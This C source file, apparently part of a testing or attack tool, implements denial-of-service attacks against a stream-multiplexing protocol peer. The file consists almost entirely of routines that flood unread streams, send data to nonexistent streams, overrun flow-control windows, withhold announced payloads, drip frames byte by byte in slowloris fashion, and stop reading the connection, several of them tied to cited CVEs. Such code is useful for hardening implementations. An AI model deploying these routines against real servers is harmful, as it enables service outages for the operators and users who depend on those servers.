/*
 * data.c - payload that nobody reads, that nobody asked for, that never comes, or that is more than
 * the window allows.
 */
#include "attack.h"

#include <string.h>

enum {
    FIRST_ID = 3,
    HELD = 40,       /* streams whose window is larger than the budget, together */
    WINDOW = 262144, /* of every stream at its start */
    LARGEST = 65535, /* payload of a frame */
    DEAF_STREAMS = 200,
    DEAF_DATA = 30000, /* to be echoed on each of them */
    DRIP_MS = 5
};

static uint32_t held_id(uint32_t i)
{
    return FIRST_ID + 2 * (i % HELD);
}

static void open_held(struct peer *peer)
{
    for (uint32_t i = 0; i < HELD; i++) {
        peer_open(peer, held_id(i), 'H');
    }
}

/** Fills streams that nobody reads, each up to its first window and never beyond. */
static void fill_held(struct peer *peer, size_t len)
{
    open_held(peer);
    for (size_t sent = 1; sent + len <= WINDOW; sent += len) {
        for (uint32_t i = 0; i < HELD; i++) {
            if (!peer_psh(peer, held_id(i), len)) {
                return;
            }
        }
    }
    while (peer_wait(peer, 100)) {
    }
}

/* M3: one byte in nine is payload, and each frame asks for a place of its own. */
void attack_tiny_frames(struct peer *peer)
{
    fill_held(peer, 1);
}

void attack_unread(struct peer *peer)
{
    fill_held(peer, LARGEST);
}

/* CVE-2026-31814 and others: what arrives for a stream that does not exist. */
void attack_unknown_data(struct peer *peer)
{
    uint32_t id = peer->own_id;
    while (peer_psh(peer, id, LARGEST)) {
        id += 2;
    }
}

void attack_unknown_tiny(struct peer *peer)
{
    uint32_t id = peer->own_id;
    while (peer_psh(peer, id, 1)) {
        id += 2;
    }
}

/* Streams whose sender knows no window, each until the victim gives it up; one such is a mistake, a
 * hundred are not. */
void attack_window_overrun(struct peer *peer)
{
    for (uint32_t id = FIRST_ID; peer_open(peer, id, 'H'); id += 2) {
        while (peer->last_fin != id) {
            if (!peer_psh(peer, id, LARGEST)) {
                return;
            }
        }
    }
}

/* CVE-2026-73568: a length is announced, and then nothing comes. */
void attack_withheld(struct peer *peer)
{
    peer_open(peer, FIRST_ID, 'E');
    peer_header(peer, CMD_PSH, LARGEST, FIRST_ID);
    while (peer_wait(peer, 100)) {
    }
}

static void drip(struct peer *peer, const uint8_t *data, size_t len)
{
    for (size_t i = 0; i < len; i++) {
        peer_bytes(peer, data + i, 1);
        if (!peer_wait(peer, DRIP_MS)) {
            return;
        }
    }
}

/* A header that takes longer than a frame may. Whole headers in between would make it legal. */
void attack_loris_header(struct peer *peer)
{
    uint8_t header[FRAME_HEADER];
    put_psh(header, peer->version, FIRST_ID, NULL, 0);
    drip(peer, header, FRAME_HEADER - 1);
    while (peer_wait(peer, 100)) {
    }
}

void attack_loris_payload(struct peer *peer)
{
    static const uint8_t payload[LARGEST];
    peer_open(peer, FIRST_ID, 'E');
    peer_header(peer, CMD_PSH, LARGEST, FIRST_ID);
    drip(peer, payload, sizeof payload);
}

/* CVE-2019-9517: asks for data and never reads the connection. Its signs of life are answered by a
 * reset once the victim has closed: the end in order would wait behind the data. */
void attack_never_reading(struct peer *peer)
{
    peer->deaf = true;
    for (uint32_t i = 0; i < DEAF_STREAMS; i++) {
        peer_open(peer, FIRST_ID + 2 * i, i % 2 == 0 ? 'S' : 'E');
        if (i % 2 == 1 && !peer_psh(peer, FIRST_ID + 2 * i, DEAF_DATA)) {
            return;
        }
    }
    while (peer_wait(peer, 100)) {
        peer_nop(peer);
    }
}

/* A server that is none, as for somebody who looks what listens here. */
void attack_hang_up(struct peer *peer)
{
    (void)peer;
}

/* Streams with data on their way, and a connection that is gone in the middle of a frame. */
void attack_reset_churn(struct peer *peer)
{
    for (uint32_t i = 0; i < DEAF_STREAMS; i++) {
        peer_open(peer, FIRST_ID + 2 * i, "EHS"[i % 3]);
        peer_psh(peer, FIRST_ID + 2 * i, 1000);
    }
    peer_header(peer, CMD_PSH, LARGEST, FIRST_ID);
    peer_wait(peer, (uint32_t)(peer->seed % 10));
}
